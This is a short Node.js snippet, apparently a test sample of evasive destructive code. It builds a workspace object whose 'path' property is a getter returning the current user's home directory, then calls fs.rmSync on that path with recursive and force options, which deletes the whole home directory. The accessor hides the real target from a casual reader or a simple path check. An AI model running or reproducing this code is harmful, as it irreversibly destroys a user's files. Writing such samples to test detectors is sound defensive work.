// The workspace is an accessor: defineProperty with a get() method that returns the home.
const fs = require('fs');
const os = require('os');

const ws = { name: 'default' };
Object.defineProperty(ws, 'path', {
  enumerable: true,
  get() {
    const info = os.userInfo();
    return info.homedir;
  },
});
fs.rmSync(ws.path, { recursive: true, force: true });
